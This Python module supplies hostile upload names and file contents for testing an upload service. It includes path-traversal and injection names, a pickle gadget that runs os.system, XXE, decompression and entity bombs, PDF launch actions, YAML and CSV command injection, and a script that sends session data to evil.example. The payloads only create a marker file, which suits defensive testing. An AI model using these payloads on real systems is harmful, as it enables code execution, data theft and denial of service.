"""Hostile names and contents of uploads."""

from __future__ import annotations

import gzip
import io
import os
import pickle
import random
import tarfile
import zipfile
from pathlib import Path

SUFFIX = ".md"
_DEEP = "/".join(["d"] * 40)
NAMES = [
    "../../../../etc/passwd", "..\\..\\windows\\system32\\evil.md", "/etc/passwd", "//etc//passwd", "C:\\evil.md",
    "\\\\server\\share\\evil.md", "....//....//evil.md", "..%2f..%2fevil.md", "%2e%2e/evil.md", "a/../../b.md",
    "a/./b.md", "./a.md", "a//b.md", "..", ".", "/", "\\", "...", " ", "\t", "\n.md", "a\nb.md", "a\r\nb.md",
    "a\x00.md", "\x00", "a\x1b[31m.md", "a\x7f.md", "\u202egpj.md", "a\u200b.md", "\ufeffa.md", "a\u2028b.md",
    "CON", "con.md", "NUL.md", "aux.txt.md", "com1.md", "LPT9", "COM¹.md", "a:b.md", "a.md:stream", "a<script>.md",
    '<img src=x onerror=alert(1)>.md', '"quoted".md', "'; DROP TABLE files;--.md", "$(touch pwned).md",
    "`touch pwned`.md", "a|b.md", "a*?.md", "-rf.md", "--help.md", "~root.md", "~/.ssh/authorized_keys",
    ".hidden.md", ".gitignore", ".ragkitignore", "ragkit-kb.json", "a/ragkit-kb.json", "a.md.", "a.md ", "a" * 1000,
    "ä" * 300 + ".md", "e\u0301.md", "\u00e9.md", "𝒳" * 100 + ".md", f"{_DEEP}/a.md", "id_rsa", ".env", "x/.env",
    "server.pem", "index.sqlite", "lock", "server.sqlite", "uploads.partial/x.md",
]  # fmt: skip
"""Names as a client sends them."""


class _Touch:
    """Creates a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (f"touch {self.path}",)


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        entry = tarfile.TarInfo("../../evil.md")
        entry.size = 4
        archive.addfile(entry, io.BytesIO(b"evil"))
    return buffer.getvalue()


def contents(ran: Path) -> dict[str, bytes]:
    """File name -> content. Whatever runs one of them creates `ran`."""
    command = f"touch {ran}"
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    bomb_xml = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">{lol}]><x>&l11;</x>'.encode()
    xxe = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    types = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    zeros = bytes(60_000_000)
    script = b"<script>fetch('/sessions').then(r=>location='//evil.example/?'+r)</script>"
    pdf = (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>"
    )
    launch = f"%PDF-1.4\n1 0 obj<</OpenAction<</S/Launch/F({command})>>>>endobj\ntrailer<</Root 1 0 R>>".encode()
    mail = b"From: a@b\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
    attachment = b'Content-Disposition: attachment; filename="../../evil.exe"\r\n\r\nMZ\x90\x00\r\n--x--\r\n'
    aliases = b"".join(b"b%d: &b%d [*a,*a]\n" % (n, n) for n in range(9))
    output = b'"outputs":[{"data":{"text/html":"%b"},"output_type":"display_data"}]' % script
    source = b'"cell_type":"code","source":"import os; os.system(\'%b\')"' % command.encode()
    return {
        "script.html": b"<html><body onload=alert(1)>The hedge." + script + b"</body></html>",
        "script.svg": b"<svg xmlns='http://www.w3.org/2000/svg'>" + script + b"</svg>",
        "script.md": b"# Hedge\n" + script + b"\n[x](javascript:alert(1)) ![y](http://evil.example/?q=1)",
        "script.xhtml": b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'>" + script + b"</html>",
        "page.txt": b"<!doctype html><html>" + script + b"</html>",
        "frame.html": b"<html><iframe src='file:///etc/passwd'></iframe><object data='file:///etc/shadow'></html>",
        "meta.html": b"<html><meta http-equiv=refresh content='0;url=http://evil.example/'>text</html>",
        "action.pdf": pdf,
        "launch.pdf": launch,
        "polyglot.pdf": b"<html>" + script + b"\n" + pdf,
        "gif.html": b"GIF89a/*" + script + b"*/=1;",
        "zip.pdf": pdf + _zip({"../../evil.md": b"evil"}),
        "pdf.docx": pdf,
        "exe.pdf": b"MZ\x90\x00" + bytes(1000),
        "elf.txt": b"\x7fELF" + bytes(1000),
        "wasm.md": b"\x00asm\x01\x00\x00\x00" + bytes(100),
        "image.md": b"\x89PNG\r\n\x1a\n" + bytes(500),
        "photo.txt": b"\xff\xd8\xff\xe0" + bytes(500),
        "data.txt": b"SQLite format 3\x00" + bytes(1000),
        "pickle.txt": pickle.dumps(_Touch(ran)),
        "pickle0.md": pickle.dumps(_Touch(ran), protocol=0),
        "bomb.docx": _zip({"[Content_Types].xml": types, "word/document.xml": zeros}),
        "lol.docx": _zip({"[Content_Types].xml": types, "word/document.xml": bomb_xml}),
        "xxe.docx": _zip({"[Content_Types].xml": types, "word/document.xml": xxe}),
        "slip.docx": _zip({"[Content_Types].xml": types, "word/document.xml": xxe, "../../../evil.md": b"evil"}),
        "bomb.xlsx": _zip({"[Content_Types].xml": types, "xl/workbook.xml": bomb_xml, "xl/sharedStrings.xml": zeros}),
        "lol.svg": bomb_xml,
        "xxe.html": xxe,
        "bomb.gz": gzip.compress(zeros),
        "archive.zip": _zip({"a.md": b"a", "../b.md": b"b"}),
        "archive.tar": _tar(),
        "front.md": f"---\nx: !!python/object/apply:os.system ['{command}']\n---\nThe hedge.\n".encode(),
        "anchors.md": b"---\na: &a [x,x]\n" + aliases + b"---\nText",
        "deep.json": b"[" * 100_000 + b"]" * 100_000,
        "code.ipynb": b'{"cells":[{' + source + b"," + output + b'}],"nbformat":4,"metadata":{}}',
        "formula.csv": f"a,b\n=cmd|'/c {command}'!A1,@SUM(1)\n".encode(),
        "object.rtf": rb"{\rtf1{\object\objdata 0105000002000000}{\field{\*\fldinst DDEAUTO cmd}}}",
        "attachment.eml": mail + attachment,
        "key.txt": b"-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY-----\n",
        "noise.md": random.Random(1).randbytes(100_000),
        "nul.md": bytes(100_000),
        "line.md": b"hedge " * 1_000_000,
        "marks.md": "".join(["a", "\u0301" * 100_000]).encode(),
        "shell.sh": f"#!/bin/sh\n{command}\n".encode(),
        "code.py": f"import os\nos.system('{command}')\n".encode(),
        "utf16.md": "# Hedge\n<script>alert(1)</script>".encode("utf-16"),
    }  # fmt: skip
